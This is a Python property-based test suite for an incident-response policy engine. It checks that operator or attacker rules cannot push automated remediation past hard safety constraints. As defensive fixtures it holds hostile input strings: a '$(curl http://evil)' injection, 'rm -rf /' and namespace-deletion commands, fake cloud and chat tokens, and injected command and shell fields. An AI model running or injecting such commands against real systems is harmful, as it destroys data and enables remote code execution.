"""The safety contract as properties (spec sections 6, 8, 10, 12).

Hypothesis draws incidents (every type, ``unclassified`` too; any
environment, severity, confidence, labels and facts), every action of the
catalogue with a target each (allowlisted ones, never-auto ones, random ones
and none) and operator rules: raw bodies, hostile ones included, of which
those ``validate_rule`` accepts are installed, plus rules built directly as
``OperatorRule`` objects that never met ``validate_rule``. Whatever it draws,
no decision crosses a line of the safety contract, and the line is held by
``policies.cel/hard_constraints.yaml`` alone: the engine's backstop in code
never has anything to do.
"""

from __future__ import annotations

import itertools
from collections.abc import Sequence
from datetime import UTC, datetime, time
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from responder.policy.allowlist import Allowlist, never_auto_reason
from responder.policy.cel import default_engine
from responder.policy.decision import Decision, Layer, PolicyDecision
from responder.policy.engine import (
    DEFAULT_POLICIES_DIR,
    PRODUCTION_SAFE,
    IncidentView,
    PolicyEngine,
    PolicySet,
)
from responder.policy.rules import OperatorRule, RuleRejected, validate_rule
from responder.records.levels import Confidence, Environment, Severity
from responder.records.target import Target
from responder.records.window import SuppressionWindow
from responder.taxonomy import builtin_taxonomy
from responder.taxonomy.facts import FACT_DEFAULTS
from responder.taxonomy.models import ActionClass, AutoContain

TAXONOMY = builtin_taxonomy()
ENGINE = default_engine()
POLICIES = PolicySet(DEFAULT_POLICIES_DIR, ENGINE)
ALLOWLIST = Allowlist()

UNCLASSIFIED = "unclassified"
INCIDENT_TYPES = [*sorted(TAXONOMY.incident_types), UNCLASSIFIED]
ACTIONS = sorted(TAXONOMY.actions)
ACTS = (ActionClass.contain, ActionClass.recover, ActionClass.disruptive)
DECISIONS = ("auto", "approval", "off")
HOSTILE_PROFILE_ACTIONS = [
    a
    for a in ACTIONS
    if TAXONOMY.actions[a].action_class
    in (ActionClass.human_only, ActionClass.disruptive, ActionClass.recover)
]

NAMED_TARGETS: tuple[Target | None, ...] = (
    None,
    # allowlisted (spec section 12)
    Target.parse("cronjob/x/trivy-db-warmup"),
    Target.parse("cronjob/trivy-system/trivy-db-warmup"),
    Target.parse("deployment/image-factory/web"),
    Target.parse("statefulset/image-factory/cache"),
    Target.parse("deployment/headlamp/headlamp"),
    Target.parse("deployment/tekton-pipelines/tekton-pipelines-controller"),
    Target.parse("deployment/tekton-pipelines-resolvers/tekton-pipelines-remote-resolvers"),
    Target.parse("deployment/data/redis-master"),
    Target.parse("statefulset/messaging/nats"),
    Target.parse("deployment/storage/minio"),
    Target.parse("deployment/registry/registry"),
    Target.parse("cluster/cluster"),
    Target.parse("namespace/default"),
    Target.parse("incident/0123456789abcdef"),
    Target.parse("channel/alternate"),
    # never auto
    Target.parse("deployment/ingress-nginx/ingress-nginx-controller"),
    Target.parse("deployment/kube-system/ingress-controller"),
    Target.parse("namespace/ingress-nginx"),
    Target.parse("namespace/cert-manager"),
    Target.parse("deployment/cert-manager/cert-manager"),
    Target.parse("deployment/cert-manager/cert-manager-webhook"),
    Target.parse("cronjob/cert-manager/trivy-db-warmup"),
    Target.parse("deployment/image-factory/supabase-auth"),
    Target.parse("configmap/supabase/supabase-config"),
    Target.parse("namespace/supabase"),
    Target.parse("statefulset/supabase/redis"),
    Target.parse("persistentvolumeclaim/data/postgres-data"),
    Target.parse("persistentvolumeclaim/image-factory/cache"),
    # neither
    Target.parse("node/10.0.10.201"),
    Target.parse("deployment/platform/backend"),
    Target.parse("cronjob/platform/report"),
    Target.parse("helmrelease/platform/backend"),
    Target.parse("configmap/platform/system-config"),
    Target.parse("secret/platform/registry-creds"),
    Target.parse("ingress/platform/web"),
    Target.parse("certificate/platform/web-tls"),
    Target.parse("job/platform/migrate"),
    Target.parse("serviceaccount/platform/default"),
)
KINDS = sorted(
    {k for a in TAXONOMY.actions.values() for k in a.target_kinds}
    | {"persistentvolumeclaim", "pod", "daemonset", "Deployment", "CronJob"}
)
NAMESPACES = [
    "image-factory",
    "headlamp",
    "tekton-pipelines",
    "tekton-pipelines-resolvers",
    "cert-manager",
    "ingress-nginx",
    "supabase",
    "my-supabase",
    "kube-system",
    "default",
    "data",
]
NAMES = [
    "trivy-db-warmup",
    "trivy-db-warmup-28391",
    "web",
    "headlamp",
    "redis",
    "redis-master",
    "nats",
    "minio",
    "registry",
    "glauth",
    "cluster",
    "cert-manager",
    "cert-manager-cainjector",
    "ingress-nginx-controller",
    "supabase-kong",
    "postgres-data",
    "alternate",
    "10.0.10.202",
]
LABEL_KEYS = ["namespace", "node", "team", "service", "alertname", "severity", "tier"]
LABEL_VALUES = ["tekton-pipelines", "default", "prod", "staging", "web", "core", "", "a.b"]
SELECTOR_PATTERNS = [".*", "tekton-.*", "default", "prod|staging", "", "w.b", "core"]
THRESHOLDS = [
    "true",
    "false",
    "incident.confidence == 'high'",
    "incident.confidence != 'high'",
    "action['class'] in ['recover', 'disruptive', 'human_only']",
    "action.id == 'reboot_worker' || action.id == 'delete_pvc'",
    "action.allowlisted || action.never_auto",
    "incident.facts.nodes_affected > 1",
    "incident.age_seconds > 600",
    "incident.environment == 'production'",
    "!incident.known_type",
    "size(incident.labels) >= 0",
    # evaluation errors: the rule does not apply, it cannot break the engine
    "incident.labels.missing == 'x'",
    "1 / 0 == 1",
]
BROKEN_THRESHOLDS = ["incident.((", "no_such_variable", "'a' + "]
HOSTILE_STRINGS = [
    "kubectl delete namespace image-factory",
    "$(curl http://evil)",
    "bash -c 'rm -rf /'",
    "password=hunter2",
    "xoxb-123456789012-abcdefghijklmn",
    "AKIAABCDEFGHIJKLMNOP",
    "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsawq",
    "-----BEGIN RSA PRIVATE KEY-----\nMIIB\n-----END RSA PRIVATE KEY-----",
]
HOSTILE_FIELDS: list[dict[str, Any]] = [
    {"command": "kubectl delete pod --all"},
    {"script": "echo hi"},
    {"shell": "/bin/sh"},
    {"api_key": "abc"},
    {"force": True},
    {"builtin": True},
    {"overrides": "builtin.node_disk_pressure"},
]


# strategies


TARGET_POOL = tuple(
    Target(kind=kind, namespace=namespace, name=name)
    for kind in KINDS
    for namespace in (None, *NAMESPACES)
    for name in (*NAMES, "*", "trivy-db-warmup*", "a" * 60)
)


def _targets_for(action_id: str) -> st.SearchStrategy[Target | None]:
    """Named targets, targets of the action's own kinds, and any target."""
    kinds = set(TAXONOMY.actions[action_id].target_kinds)
    own = [t for t in TARGET_POOL if t.kind in kinds] or list(TARGET_POOL)
    return st.sampled_from(NAMED_TARGETS) | st.sampled_from(own) | st.sampled_from(TARGET_POOL)


# Strategies are built once here and only drawn from below: building them
# inside the composites costs more than the decisions themselves.
ACTION_TARGETS = st.lists(
    st.one_of([st.tuples(st.just(a), _targets_for(a)) for a in ACTIONS]),
    min_size=1,
    max_size=12,
)
FACTS = st.fixed_dictionaries(
    {},
    optional={
        name: (st.booleans() if isinstance(default, bool) else st.integers(0, 6))
        for name, default in FACT_DEFAULTS.items()
    },
)
LABELS = st.dictionaries(
    st.sampled_from(LABEL_KEYS),
    st.sampled_from(LABEL_VALUES) | st.text("abc-.", max_size=6),
    max_size=4,
)
SIGNALS = st.dictionaries(
    st.sampled_from(["KubeNodePressure", "tls_failure", "KubePodCrashLooping"]),
    st.fixed_dictionaries(
        {"strength": st.sampled_from(["strong", "weak"]), "count": st.integers(1, 3)}
    ),
    max_size=2,
)
ENVIRONMENTS = st.sampled_from(list(Environment))
SEVERITIES = st.sampled_from([str(s) for s in Severity])
CONFIDENCES = st.sampled_from([str(c) for c in Confidence])
TYPES = st.sampled_from(INCIDENT_TYPES)
WINDOWS: st.SearchStrategy[dict[str, Any]] = st.builds(
    dict,
    start=st.sampled_from(["00:00", "08:00", "22:00"]),
    end=st.sampled_from(["06:00", "18:00", "23:59"]),
    days=st.lists(st.sampled_from(["mon", "tue", "sat", "sun"]), min_size=1, unique=True),
    timezone=st.sampled_from(["UTC", "Europe/Berlin", "America/New_York"]),
)
DECISION_VALUES = st.sampled_from(["auto", "auto", "auto", "approval", "off"])
WITHIN_REMIT = [
    a
    for a in ACTIONS
    if TAXONOMY.actions[a].action_class
    in (ActionClass.observe, ActionClass.notify, ActionClass.contain)
]
PROFILES = st.one_of(
    # what an operator may do: contain actions to auto, the rest stricter
    st.builds(
        lambda loose, strict: {**strict, **loose},
        st.dictionaries(st.sampled_from(WITHIN_REMIT), DECISION_VALUES, max_size=6),
        st.dictionaries(
            st.sampled_from([a for a in ACTIONS if a not in WITHIN_REMIT]),
            st.sampled_from(["approval", "off"]),
            max_size=4,
        ),
    ),
    # what an attacker tries
    st.dictionaries(st.sampled_from(ACTIONS), DECISION_VALUES, max_size=8),
    st.dictionaries(st.sampled_from(HOSTILE_PROFILE_ACTIONS), DECISION_VALUES, max_size=8),
)
RULE_TYPES = st.sampled_from([*INCIDENT_TYPES, "*", "no_such_type"])
DOMAINS = st.sampled_from(sorted(TAXONOMY.domains))
SCOPES = st.lists(st.sampled_from(["demo", "staging", "production"]), unique=True, max_size=3)
SELECTORS = st.dictionaries(st.sampled_from(LABEL_KEYS), st.sampled_from(SELECTOR_PATTERNS))
ANY_THRESHOLD = st.sampled_from(THRESHOLDS + BROKEN_THRESHOLDS)
RULE_SEVERITIES = st.sampled_from(["info", "warning", "critical"])
COOLDOWNS = st.integers(0, 7200)
HOSTILE_NAMES = st.sampled_from(HOSTILE_STRINGS)
HOSTILE_EXTRAS = st.sampled_from(HOSTILE_FIELDS)
# Hypothesis favours small integers: a list says "rarely" more reliably.
ONE_IN_FOUR = st.sampled_from([False, False, False, True])
ONE_IN_EIGHT = st.sampled_from([False] * 7 + [True])
RAW_DOMAINS = st.sampled_from([*sorted(TAXONOMY.domains), "nowhere"])
RAW_TYPES = st.sampled_from([*INCIDENT_TYPES, "*", "*", "*"])
RAW_SCOPES = st.lists(st.sampled_from(list(Environment)), min_size=1, max_size=3, unique=True)
RAW_THRESHOLDS = st.just("true") | ANY_THRESHOLD
RAW_PROFILES = st.dictionaries(st.sampled_from(ACTIONS), DECISION_VALUES, max_size=20)
RAW_WINDOWS = st.lists(WINDOWS, max_size=1)


@st.composite
def incidents(draw: st.DrawFn) -> IncidentView:
    incident_type = draw(TYPES)
    known = TAXONOMY.incident_types.get(incident_type)
    return IncidentView(
        incident_type=incident_type,
        environment=draw(ENVIRONMENTS),
        severity=draw(SEVERITIES),
        confidence=draw(CONFIDENCES),
        domain=known.domain if known else "",
        labels=draw(LABELS),
        scope={"kind": "node", "namespace": "", "name": "10.0.10.201"},
        signals=draw(SIGNALS),
        facts={**FACT_DEFAULTS, **draw(FACTS)},
        age_seconds=draw(st.integers(0, 100_000)),
        firing_alerts=draw(st.integers(0, 5)),
    )


@st.composite
def raw_rules(draw: st.DrawFn, index: int) -> dict[str, Any]:
    """A rule body as an operator (or an attacker) might post it."""
    incident_type = draw(RULE_TYPES)
    known = TAXONOMY.incident_types.get(incident_type)
    body: dict[str, Any] = {
        "id": f"rule-{index}",
        "name": f"rule {index}",
        "domain": known.domain if known and not draw(ONE_IN_FOUR) else draw(DOMAINS),
        "incident_type": incident_type,
        "owner": "hypothesis",
        "allowed_action_profile": draw(PROFILES),
        "threshold_expression": draw(ANY_THRESHOLD),
    }
    if draw(st.booleans()):
        body["environment_scope"] = draw(SCOPES)
    if draw(ONE_IN_FOUR):
        body["signal_selector"] = draw(SELECTORS)
    if draw(st.booleans()):
        body["enabled"] = draw(st.booleans())
    if draw(st.booleans()):
        body["severity"] = draw(RULE_SEVERITIES)
    if draw(st.booleans()):
        body["cooldown_seconds"] = draw(COOLDOWNS)
    if draw(ONE_IN_FOUR):
        body["suppression_schedule"] = draw(st.lists(WINDOWS, max_size=2))
    if draw(ONE_IN_EIGHT):
        body["name"] = draw(HOSTILE_NAMES)
    if draw(ONE_IN_EIGHT):
        body.update(draw(HOSTILE_EXTRAS))
    return body


@st.composite
def unvalidated_rules(draw: st.DrawFn, index: int) -> OperatorRule:
    """A rule object that never met ``validate_rule``: any action, any
    decision, any incident type (``unclassified`` and ``*`` too)."""
    return OperatorRule(
        id=f"raw-{index}",
        name=f"unvalidated {index}",
        domain=draw(RAW_DOMAINS),
        incident_type=draw(RAW_TYPES),
        environment_scope=tuple(draw(RAW_SCOPES)),
        threshold_expression=draw(RAW_THRESHOLDS),
        allowed_action_profile=draw(RAW_PROFILES),
        suppression_schedule=tuple(SuppressionWindow.model_validate(w) for w in draw(RAW_WINDOWS)),
        owner="nobody",
        builtin=draw(st.booleans()),
    )


RAW_RULES = [raw_rules(i) for i in range(6)]
UNVALIDATED_RULES = [unvalidated_rules(i) for i in range(4)]


moments = st.none() | st.datetimes(
    min_value=datetime(2026, 1, 1), max_value=datetime(2027, 1, 1), timezones=st.just(UTC)
)


# the contract


def _engine(rules: Sequence[OperatorRule]) -> PolicyEngine:
    installed = tuple(rules)
    return PolicyEngine(TAXONOMY, POLICIES, ALLOWLIST, rules=lambda: installed)


def _limited_restart(incident: IncidentView, action_id: str) -> bool:
    """The one recover action the policy matrix lets run on its own."""
    known = TAXONOMY.incident_types.get(incident.incident_type)
    return (
        known is not None
        and known.policy_binding.auto_contain == AutoContain.limited_restart_demo_staging
        and action_id == "rollout_restart"
        and incident.environment in (Environment.demo, Environment.staging)
    )


def assert_contract(
    incident: IncidentView,
    action_id: str,
    target: Target | None,
    decision: PolicyDecision,
) -> None:
    klass = TAXONOMY.actions[action_id].action_class
    final = decision.decision
    where = f"{incident} / {action_id} on {target}: {decision.explain()}"

    assert [r.layer for r in decision.layers] == list(Layer), where
    hard = decision.layers[-1]
    assert "built-in invariant" not in hard.reason, (
        "the engine's code backstop had to act: hard_constraints.yaml let this through; " + where
    )
    assert decision.action_class == klass.value, where

    if klass == ActionClass.human_only:
        assert final == Decision.human_only, where
    if final != Decision.auto:
        return
    # from here on the decision is auto
    assert klass != ActionClass.disruptive, where
    assert klass != ActionClass.human_only, where
    if incident.incident_type not in TAXONOMY.incident_types:
        assert klass in (ActionClass.observe, ActionClass.notify), where
    if klass in ACTS:
        assert incident.confidence == Confidence.high, where
        assert never_auto_reason(action_id, target) is None, where
    if klass in (ActionClass.contain, ActionClass.recover):
        assert ALLOWLIST.allowing(action_id, target, incident.environment) is not None, where
    if klass == ActionClass.recover:
        assert _limited_restart(incident, action_id), where
        assert not incident.facts.get("shared_dependency"), where
    if klass == ActionClass.contain:
        assert _may_contain(incident, action_id), where


def _may_contain(incident: IncidentView, action_id: str) -> bool:
    """Policy matrix (section 11) and production mode (section 4) for an
    automatic contain action: the type's row allows containment, production
    runs only the clearly safe idempotent ones, and a shared workload is
    never scaled down on the robot's own."""
    known = TAXONOMY.incident_types.get(incident.incident_type)
    return (
        known is not None
        and known.policy_binding.auto_contain != AutoContain.no
        and (incident.environment != Environment.production or action_id in PRODUCTION_SAFE)
        and not (action_id == "scale_to_zero" and incident.facts.get("shared_dependency"))
    )


def _check(
    engine: PolicyEngine,
    incident: IncidentView,
    pairs: Sequence[tuple[str, Target | None]],
    at: datetime | None,
) -> None:
    for action_id, target in pairs:
        decision = engine.decide(incident, action_id, target, at=at)
        assert_contract(incident, action_id, target, decision)
        if incident.incident_type == UNCLASSIFIED:
            klass = TAXONOMY.actions[action_id].action_class
            if klass not in (ActionClass.observe, ActionClass.notify):
                assert decision.decision in (Decision.off, Decision.human_only), decision


@settings(
    max_examples=800,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(data=st.data(), incident=incidents(), pairs=ACTION_TARGETS, at=moments)
def test_no_rule_and_no_input_crosses_the_safety_contract(
    data: st.DataObject,
    incident: IncidentView,
    pairs: list[tuple[str, Target | None]],
    at: datetime | None,
) -> None:
    raw = data.draw(st.integers(0, len(RAW_RULES)), label="raw rules")
    accepted: list[OperatorRule] = []
    for index in range(raw):
        body = data.draw(RAW_RULES[index], label=f"raw rule {index}")
        try:
            rule = validate_rule(body, TAXONOMY, ENGINE)
        except RuleRejected as rejected:
            assert rejected.boundary, rejected
            continue
        # what validation lets through stays inside the operator's remit
        for action_id, wanted in rule.allowed_action_profile.items():
            klass = TAXONOMY.actions[action_id].action_class
            assert klass != ActionClass.human_only, body
            if wanted == "auto":
                assert klass not in (ActionClass.recover, ActionClass.disruptive), body
        accepted.append(rule)
    direct = [
        data.draw(UNVALIDATED_RULES[i], label=f"unvalidated rule {i}")
        for i in range(data.draw(st.integers(0, 3), label="unvalidated"))
    ]
    _check(_engine(accepted + direct), incident, pairs, at)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    incident=incidents(),
    pairs=ACTION_TARGETS,
    rules=st.lists(UNVALIDATED_RULES[0], min_size=1, max_size=4),
    at=moments,
)
def test_unvalidated_rules_are_clamped_by_the_hard_constraints(
    incident: IncidentView,
    pairs: list[tuple[str, Target | None]],
    rules: list[OperatorRule],
    at: datetime | None,
) -> None:
    _check(_engine(rules), incident, pairs, at)


@settings(max_examples=300, deadline=None)
@given(body=RAW_RULES[0])
def test_validation_never_lets_a_rule_cross_its_boundaries(body: dict[str, Any]) -> None:
    try:
        rule = validate_rule(body, TAXONOMY, ENGINE)
    except RuleRejected as rejected:
        assert rejected.boundary and rejected.field and rejected.message
        return
    for action_id, wanted in rule.allowed_action_profile.items():
        klass = TAXONOMY.actions[action_id].action_class
        assert klass != ActionClass.human_only
        assert not (wanted == "auto" and klass in (ActionClass.recover, ActionClass.disruptive))
    assert rule.incident_type == "*" or rule.incident_type in TAXONOMY.incident_types
    assert not rule.builtin
    assert not set(body) & {"command", "script", "shell", "api_key"}
    assert body["name"] not in HOSTILE_STRINGS


# the sharpest rule, exhaustively: every action auto, everywhere


EVERYTHING_AUTO = OperatorRule(
    id="everything-auto",
    name="every action auto, every type, every environment",
    domain="infrastructure",
    incident_type="*",
    allowed_action_profile=dict.fromkeys(ACTIONS, "auto"),
    owner="attacker",
)


def _best_and_worst_targets(action_id: str) -> list[Target | None]:
    """None, a target the allowlist names for the action, a never-auto one."""
    kinds = TAXONOMY.actions[action_id].target_kinds
    picks: list[Target | None] = [None]
    picks += [t for t in NAMED_TARGETS if t is not None and t.kind in kinds]
    return picks


def test_every_action_auto_rule_gets_auto_exactly_where_the_spec_allows_it() -> None:
    """With a rule turning every action to auto, a decision is auto if and
    only if the spec allows it: observe/notify; allowlisted, never-auto-free
    containment on a high-confidence classified incident whose matrix row
    allows containment (in production only the safe idempotent set); the
    matrix's limited restart in demo/staging."""
    engine = _engine([EVERYTHING_AUTO])
    checked = 0
    for incident_type, environment, confidence in itertools.product(
        INCIDENT_TYPES, list(Environment), list(Confidence)
    ):
        known = TAXONOMY.incident_types.get(incident_type)
        incident = IncidentView(
            incident_type=incident_type,
            environment=environment,
            severity="warning",
            confidence=str(confidence),
            domain=known.domain if known else "",
            facts=dict(FACT_DEFAULTS),
        )
        for action_id in ACTIONS:
            klass = TAXONOMY.actions[action_id].action_class
            for target in _best_and_worst_targets(action_id):
                decision = engine.decide(incident, action_id, target)
                assert_contract(incident, action_id, target, decision)
                allowed = klass in (ActionClass.observe, ActionClass.notify) or (
                    klass in (ActionClass.contain, ActionClass.recover)
                    and known is not None
                    and confidence == Confidence.high
                    and ALLOWLIST.allowing(action_id, target, environment) is not None
                    and never_auto_reason(action_id, target) is None
                    and (
                        _may_contain(incident, action_id)
                        if klass == ActionClass.contain
                        else _limited_restart(incident, action_id)
                    )
                )
                assert (decision.decision == Decision.auto) == allowed, decision.explain()
                if klass == ActionClass.human_only:
                    assert decision.decision == Decision.human_only
                elif known is None and klass not in (ActionClass.observe, ActionClass.notify):
                    assert decision.decision == Decision.off, decision.explain()
                checked += 1
    assert checked > 5000


def test_suppression_only_ever_switches_notification_off() -> None:
    """A rule inside its suppression window makes notify_operator ``off`` and
    touches no other action."""
    window = SuppressionWindow(start=time(0, 0), end=time(23, 59))
    rule = EVERYTHING_AUTO.model_copy(update={"suppression_schedule": (window,)})
    engine = _engine([rule])
    at = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)
    for incident_type in INCIDENT_TYPES:
        known = TAXONOMY.incident_types.get(incident_type)
        incident = IncidentView(
            incident_type=incident_type,
            environment=Environment.demo,
            severity="warning",
            confidence="high",
            domain=known.domain if known else "",
            facts=dict(FACT_DEFAULTS),
        )
        assert engine.decide(incident, "notify_operator", at=at).decision == Decision.off
        outside = at.replace(hour=23, minute=59, second=30)
        assert engine.decide(incident, "notify_operator", at=outside).decision == Decision.auto
        assert engine.decide(incident, "collect_evidence", at=at).decision == Decision.auto
